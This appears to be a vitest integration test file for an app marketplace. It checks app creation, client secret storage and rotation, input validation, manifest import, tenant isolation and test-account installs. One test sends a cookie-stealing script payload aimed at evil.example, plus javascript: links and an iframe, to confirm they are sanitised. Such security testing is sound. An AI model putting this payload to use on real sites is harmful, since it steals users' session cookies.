import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { appClient, developer } from '../helpers/apps.ts';
import { startPlaza, type TestPlaza } from '../helpers/plaza.ts';
import { createOrg, signInWithPlatformRole, signUp, uniqueSlug } from '../helpers/world.ts';

let plaza: TestPlaza;
beforeAll(async () => {
  plaza = await startPlaza({ PLAZA_CLIENT_SECRET_OVERLAP_HOURS: '48' });
});
afterAll(() => plaza.close());

describe('creating apps', () => {
  it('creates the app, a draft version 1 and client credentials whose secret is shown once', async () => {
    const dev = await developer(plaza);
    const api = appClient(dev);
    const slug = uniqueSlug('crm-sync');
    const res = await api
      .create({
        name: 'CRM Sync',
        slug,
        tagline: 'Two-way sync',
        description: 'Hello **world**',
        category: 'crm',
        supportUrl: 'https://example.com/help',
      })
      .expect(201);
    const { app, version, clientSecret } = res.body;
    expect(app).toMatchObject({
      slug,
      name: 'CRM Sync',
      status: 'active',
      organizationId: dev.orgId,
      liveVersion: null,
    });
    expect(app.clientId).toMatch(/^cl_[0-9a-z]{26}$/);
    expect(clientSecret).toMatch(/^plz_cs_[A-Za-z0-9_-]{40,}$/);
    expect(app.openVersion).toEqual({ id: version.id, number: 1, state: 'draft' });
    expect(version).toMatchObject({
      number: 1,
      state: 'draft',
      editable: true,
      category: 'crm',
      descriptionHtml: '<p>Hello <strong>world</strong></p>\n',
      pricing: { type: 'free' },
    });
    // The secret is not shown again, and is not stored in the clear.
    const again = await api.get(app.id).expect(200);
    expect(JSON.stringify(again.body)).not.toContain(clientSecret);
    expect(again.body.clientSecrets).toHaveLength(1);
    expect(clientSecret.startsWith(again.body.clientSecrets[0].prefix)).toBe(true);
    const stored = await plaza.core.db.query('SELECT secret_hash FROM app_client_secrets WHERE app_id = $1', [
      app.id,
    ]);
    expect(JSON.stringify(stored)).not.toContain(clientSecret);

    expect(await plaza.core.apps.verifyClientSecret(app.clientId, clientSecret)).toEqual({
      appId: app.id,
      organizationId: dev.orgId,
      status: 'active',
    });
    expect(await plaza.core.apps.verifyClientSecret(app.clientId, `${clientSecret}x`)).toBeNull();

    const list = await dev.agent.get(api.base).expect(200);
    expect(list.body.data.map((a: { id: string }) => a.id)).toEqual([app.id]);
    const audit = await dev.agent.get(`/v1/organizations/${dev.orgId}/audit-log`).expect(200);
    expect(audit.body.data.map((e: { action: string }) => e.action)).toContain('app.created');
  });

  it('answers client secret checks made at the same moment each for its own client and secret', async () => {
    const dev = await developer(plaza);
    const api = appClient(dev);
    const made: Array<{ app: { id: string; clientId: string }; secret: string }> = [];
    for (const name of ['Check One', 'Check Two']) {
      const res = await api
        .create({ name, slug: uniqueSlug('check'), tagline: 't', description: 'd', category: 'crm' })
        .expect(201);
      made.push({ app: res.body.app, secret: res.body.clientSecret as string });
    }
    const [one, two] = made;
    const expected = (m: (typeof made)[number]) => ({
      appId: m.app.id,
      organizationId: dev.orgId,
      status: 'active',
    });
    // Together they go to the database in one statement: each answer is still its own, whatever the others hold.
    const answers = await Promise.all([
      plaza.core.apps.verifyClientSecret(one.app.clientId, one.secret),
      plaza.core.apps.verifyClientSecret(two.app.clientId, one.secret),
      plaza.core.apps.verifyClientSecret(two.app.clientId, two.secret),
      plaza.core.apps.verifyClientSecret('cl_"unknown",{x}\\', one.secret),
      plaza.core.apps.verifyClientSecret(one.app.clientId, `${one.secret}x`),
      plaza.core.apps.verifyClientSecret('cl_\0nul', one.secret),
      plaza.core.apps.verifyClientSecret(one.app.clientId, one.secret),
    ]);
    expect(answers).toEqual([expected(one), null, expected(two), null, null, null, expected(one)]);
  });

  it('refuses reserved, malformed and taken slugs naming the field', async () => {
    const dev = await developer(plaza);
    const api = appClient(dev);
    const reserved = await api.create({ name: 'Admin', slug: 'admin' }).expect(400);
    expect(reserved.body.fields).toEqual([{ field: 'body.slug', reason: '"admin" is reserved' }]);
    const malformed = await api.create({ name: 'Bad', slug: 'Bad Slug!' }).expect(400);
    expect(malformed.body.fields[0].field).toBe('body.slug');
    const slug = uniqueSlug('taken');
    await api.create({ name: 'First', slug }).expect(201);
    const other = appClient(await developer(plaza));
    const taken = await other.create({ name: 'Second', slug }).expect(409);
    expect(taken.body.fields).toEqual([{ field: 'body.slug', reason: 'already taken' }]);
    const noName = await api.create({ slug: uniqueSlug() }).expect(400);
    expect(noName.body.fields[0].field).toBe('body.name');
    const badUrl = await api
      .create({ name: 'X App', slug: uniqueSlug(), privacyUrl: 'javascript:alert(1)' })
      .expect(400);
    expect(badUrl.body.fields[0].field).toBe('body.privacyUrl');
  });

  it('rotates the client secret: the old one works during the overlap window, then not', async () => {
    const dev = await developer(plaza);
    const api = appClient(dev);
    const created = await api.create({ name: 'Rotator', slug: uniqueSlug('rot') }).expect(201);
    const { app, clientSecret: first } = created.body;
    const rotated = await api.send('post', `${api.base}/${app.id}/client-secrets`).send({}).expect(201);
    const second = rotated.body.clientSecret;
    expect(second).not.toBe(first);
    // Default overlap from PLAZA_CLIENT_SECRET_OVERLAP_HOURS (48 here).
    const hours = (Date.parse(rotated.body.previousSecretsExpireAt) - Date.now()) / 3_600_000;
    expect(Math.round(hours)).toBe(48);
    expect(rotated.body.app.clientSecrets).toHaveLength(2);
    expect(await plaza.core.apps.verifyClientSecret(app.clientId, first)).not.toBeNull();
    expect(await plaza.core.apps.verifyClientSecret(app.clientId, second)).not.toBeNull();
    // A rotation with no overlap ends both earlier secrets at once.
    const third = await api
      .send('post', `${api.base}/${app.id}/client-secrets`)
      .send({ overlapHours: 0 })
      .expect(201);
    expect(await plaza.core.apps.verifyClientSecret(app.clientId, first)).toBeNull();
    expect(await plaza.core.apps.verifyClientSecret(app.clientId, second)).toBeNull();
    expect(await plaza.core.apps.verifyClientSecret(app.clientId, third.body.clientSecret)).not.toBeNull();
    const actions = await dev.agent.get(`/v1/organizations/${dev.orgId}/audit-log`).expect(200);
    expect(
      actions.body.data.filter((e: { action: string }) => e.action === 'app.client_secret_rotated'),
    ).toHaveLength(2);
  });

  it('lists the scope catalog publicly', async () => {
    const res = await plaza.http.get('/v1/scopes').expect(200);
    const byName = Object.fromEntries(res.body.data.map((s: { name: string }) => [s.name, s]));
    expect(Object.keys(byName)).toEqual(
      expect.arrayContaining([
        'account:read',
        'contacts:read',
        'contacts:write',
        'users:read',
        'users:read_email',
      ]),
    );
    expect(byName['contacts:read']).toMatchObject({ sensitivity: 'personal', owner: 'core' });
    expect(byName['account:read'].sensitivity).toBe('basic');
    expect(byName['users:read_email'].consentText).toMatch(/email/);
  });
});

describe('editing versions', () => {
  it('validates redirect URIs, scopes, events and pricing, naming the field', async () => {
    const dev = await developer(plaza);
    const api = appClient(dev);
    const { app, version } = (await api.create({ name: 'Editor', slug: uniqueSlug('ed') }).expect(201)).body;
    const bad = async (body: Record<string, unknown>) =>
      (await api.patch(app.id, version.id, body).expect(400)).body.fields as Array<{
        field: string;
        reason: string;
      }>;

    expect(
      await bad({
        redirectUris: [
          'https://ok.example/cb',
          'http://example.com/cb',
          'https://*.example.com/cb',
          'https://ok.example/cb#x',
          'https://ok.example/cb',
        ],
      }),
    ).toEqual([
      { field: 'body.redirectUris.1', reason: expect.stringMatching(/https/) },
      { field: 'body.redirectUris.2', reason: expect.stringMatching(/wildcards/) },
      { field: 'body.redirectUris.3', reason: expect.stringMatching(/fragment/) },
      { field: 'body.redirectUris.4', reason: 'listed twice' },
    ]);
    expect(await bad({ scopes: [{ name: 'ledger:drain', justification: 'x' }] })).toEqual([
      { field: 'body.scopes.0.name', reason: expect.stringMatching(/unknown scope ledger:drain/) },
    ]);
    expect(await bad({ scopes: [{ name: 'not a scope' }] })).toEqual([
      { field: 'body.scopes.0.name', reason: 'must be resource:action' },
    ]);
    expect(await bad({ webhookEvents: ['contact.vanished'] })).toEqual([
      { field: 'body.webhookEvents.0', reason: 'unknown event type contact.vanished' },
    ]);
    expect((await bad({ pricing: { type: 'one_time', amount: 9.99, currency: 'USD' } }))[0].field).toBe(
      'body.pricing.amount',
    );
    expect((await bad({ category: 'gambling' }))[0].field).toBe('body.category');
    expect(await bad({ iconAssetId: 'ast_00000000000000000000000000' })).toEqual([
      { field: 'body.iconAssetId', reason: 'not an icon uploaded for this app' },
    ]);

    // Loopback http is fine; absent fields stay as they were.
    const ok = await api
      .patch(app.id, version.id, {
        redirectUris: [
          'http://localhost:3000/cb',
          'http://127.0.0.1/cb',
          'http://[::1]:8080/cb',
          'https://a.example/cb',
        ],
        scopes: [{ name: 'contacts:read', justification: 'sync', optional: false }],
        pricing: { type: 'usage', unitName: 'message', unitAmount: 2, currency: 'USD', cappedAmount: 5000 },
      })
      .expect(200);
    expect(ok.body).toMatchObject({
      name: 'Editor',
      category: 'other',
      redirectUris: expect.arrayContaining(['http://[::1]:8080/cb']),
    });
    const renamed = await api.patch(app.id, version.id, { name: 'Editor Pro' }).expect(200);
    expect(renamed.body.scopes).toEqual([{ name: 'contacts:read', justification: 'sync', optional: false }]);
    expect((await api.get(app.id).expect(200)).body.name).toBe('Editor Pro');
  });

  it('neutralises script injection in the listing description', async () => {
    const dev = await developer(plaza);
    const api = appClient(dev);
    const { app, version } = (await api.create({ name: 'Sneaky', slug: uniqueSlug('xss') }).expect(201)).body;
    const res = await api
      .patch(app.id, version.id, {
        description:
          '<script>document.location="https://evil.example/?c="+document.cookie</script>\n\n' +
          '[Click me](javascript:alert(document.domain)) <iframe src="https://evil.example"></iframe>',
      })
      .expect(200);
    expect(res.body.description).toContain('<script>'); // the source is kept as written
    expect(res.body.descriptionHtml).not.toMatch(/<script|<iframe|href="javascript/i);
    expect(res.body.descriptionHtml).toContain('&lt;script&gt;');
  });

  it('keeps one open version; the next version copies the latest', async () => {
    const dev = await developer(plaza);
    const api = appClient(dev);
    const { app, version } = (await api.create({ name: 'Copier', slug: uniqueSlug('copy') }).expect(201))
      .body;
    await api.patch(app.id, version.id, { tagline: 'Copied along' }).expect(200);
    const open = await api.newVersion(app.id).expect(409);
    expect(open.body.detail).toMatch(/version 1 is still open \(draft\)/);
    const versions = await dev.agent.get(`${api.base}/${app.id}/versions`).expect(200);
    expect(versions.body.data.map((v: { number: number }) => v.number)).toEqual([1]);
  });
});

describe('manifest', () => {
  it('exports a version as JSON and imports it back with the same validation', async () => {
    const dev = await developer(plaza);
    const api = appClient(dev);
    const slug = uniqueSlug('mf');
    const { app, version } = (await api.create({ name: 'Manifested', slug }).expect(201)).body;
    await api
      .patch(app.id, version.id, {
        scopes: [{ name: 'account:read', justification: 'show the account name' }],
        redirectUris: ['https://m.example/cb'],
      })
      .expect(200);
    const path = `${api.base}/${app.id}/versions/${version.id}/manifest`;
    const exported = (await dev.agent.get(path).expect(200)).body;
    expect(exported).toMatchObject({
      manifestVersion: 1,
      slug,
      version: { name: 'Manifested', redirectUris: ['https://m.example/cb'], pricing: { type: 'free' } },
      assets: { iconAssetId: null, screenshotAssetIds: [] },
    });
    expect(exported.$schema).toMatch(/openapi\.json#\/components\/schemas\/AppManifest$/);

    const edited = {
      ...exported,
      version: { ...exported.version, tagline: 'From my repository', category: 'productivity' },
    };
    const imported = await api.send('put', path).send(edited).expect(200);
    expect(imported.body).toMatchObject({
      tagline: 'From my repository',
      category: 'productivity',
      scopes: exported.version.scopes,
    });

    const wrongSlug = await api
      .send('put', path)
      .send({ ...edited, slug: 'someone-else' })
      .expect(400);
    expect(wrongSlug.body.fields[0].field).toBe('body.slug');
    const badUri = await api
      .send('put', path)
      .send({ ...edited, version: { ...edited.version, redirectUris: ['http://evil.example/cb'] } })
      .expect(400);
    expect(badUri.body.fields[0].field).toBe('body.version.redirectUris.0');
    const foreignAsset = await api
      .send('put', path)
      .send({ ...edited, assets: { iconAssetId: 'ast_nothere', screenshotAssetIds: [] } })
      .expect(400);
    expect(foreignAsset.body.fields[0].field).toBe('body.assets.iconAssetId');

    const doc = (await plaza.http.get('/openapi.json').expect(200)).body;
    expect(doc.components.schemas.AppManifest.required).toEqual(
      expect.arrayContaining(['manifestVersion', 'slug', 'version']),
    );
  });
});

describe('tenancy', () => {
  it('another developer org can neither see nor change the app; non-developer orgs have no apps', async () => {
    const dev = await developer(plaza);
    const api = appClient(dev);
    const { app, version } = (await api.create({ name: 'Private', slug: uniqueSlug('own') }).expect(201))
      .body;
    const other = await developer(plaza);
    // Other org's own path with this app's id: not found.
    const theirs = appClient(other);
    await theirs.get(app.id).expect(404);
    await theirs.patch(app.id, version.id, { name: 'Hijacked' }).expect(404);
    // This org's path, as a non-member: not found either.
    await other.agent.get(`${api.base}/${app.id}`).expect(404);
    await other.agent
      .patch(`${api.base}/${app.id}/versions/${version.id}`)
      .set('x-csrf-token', other.csrf)
      .send({ name: 'Hijacked' })
      .expect(404);
    expect((await theirs.send('post', theirs.base).send({}).expect(400)).body.code).toBe('PLAZA_VALIDATION');
    expect((await dev.agent.get(api.base).expect(200)).body.data[0].name).toBe('Private');

    const customer = await signUp(plaza);
    const account = await createOrg(customer, 'account');
    await customer.agent
      .post(`/v1/organizations/${account.id}/apps`)
      .set('x-csrf-token', customer.csrf)
      .send({ name: 'Nope', slug: uniqueSlug('nope') })
      .expect(403);
  });

  it('reviewers and platform admins cannot edit apps', async () => {
    const dev = await developer(plaza);
    const api = appClient(dev);
    const { app, version } = (await api.create({ name: 'Untouchable', slug: uniqueSlug('rev') }).expect(201))
      .body;
    for (const role of ['reviewer', 'admin'] as const) {
      const staff = await signInWithPlatformRole(plaza, role);
      await staff.agent
        .patch(`${api.base}/${app.id}/versions/${version.id}`)
        .set('x-csrf-token', staff.csrf)
        .send({ name: 'Edited by staff' })
        .expect(404);
      await staff.agent
        .put(`${api.base}/${app.id}/versions/${version.id}/manifest`)
        .set('x-csrf-token', staff.csrf)
        .send({})
        .expect(404);
      await staff.agent.post(`${api.base}/${app.id}/versions`).set('x-csrf-token', staff.csrf).expect(404);
    }
    expect((await api.version(app.id, version.id).expect(200)).body.name).toBe('Untouchable');
  });
});

describe('development mode', () => {
  it('test accounts of the developer org can install unreviewed apps; nobody else can', async () => {
    const dev = await developer(plaza);
    const api = appClient(dev);
    const { app } = (await api.create({ name: 'Dev Mode', slug: uniqueSlug('dm') }).expect(201)).body;
    const created = await dev.agent
      .post(`/v1/organizations/${dev.orgId}/test-accounts`)
      .set('x-csrf-token', dev.csrf)
      .send({ name: 'Test Bakery' })
      .expect(201);
    expect(created.body).toMatchObject({ kind: 'account', parentId: dev.orgId, name: 'Test Bakery' });
    // The developer opens it like an agency admin opens a sub-account.
    await dev.agent.get(`/v1/organizations/${created.body.id}`).expect(200);
    const list = await dev.agent.get(`/v1/organizations/${dev.orgId}/test-accounts`).expect(200);
    expect(list.body.data.map((o: { id: string }) => o.id)).toEqual([created.body.id]);

    const ok = await plaza.core.apps.assertInstallable(created.body.id, app.id);
    expect(ok).toMatchObject({ appId: app.id, development: true });

    // A customer account elsewhere, and another developer's test account: refused.
    const customer = await signUp(plaza);
    const account = await createOrg(customer, 'account');
    await expect(plaza.core.apps.assertInstallable(account.id, app.id)).rejects.toMatchObject({
      status: 403,
    });
    const other = await developer(plaza);
    const otherTest = await other.agent
      .post(`/v1/organizations/${other.orgId}/test-accounts`)
      .set('x-csrf-token', other.csrf)
      .send({ name: 'Other test' })
      .expect(201);
    await expect(plaza.core.apps.assertInstallable(otherTest.body.id, app.id)).rejects.toMatchObject({
      status: 403,
    });
    // Not into a developer org, nor an unknown app.
    await expect(plaza.core.apps.assertInstallable(dev.orgId, app.id)).rejects.toMatchObject({ status: 403 });
    await expect(plaza.core.apps.assertInstallable(created.body.id, 'app_missing')).rejects.toMatchObject({
      status: 404,
    });
    // Agencies cannot make test accounts; developers cannot make sub-accounts.
    const agency = await createOrg(customer, 'agency');
    await customer.agent
      .post(`/v1/organizations/${agency.id}/test-accounts`)
      .set('x-csrf-token', customer.csrf)
      .send({ name: 'x' })
      .expect(403);
    await dev.agent
      .post(`/v1/organizations/${dev.orgId}/sub-accounts`)
      .set('x-csrf-token', dev.csrf)
      .send({ name: 'x' })
      .expect(403);
  });
});
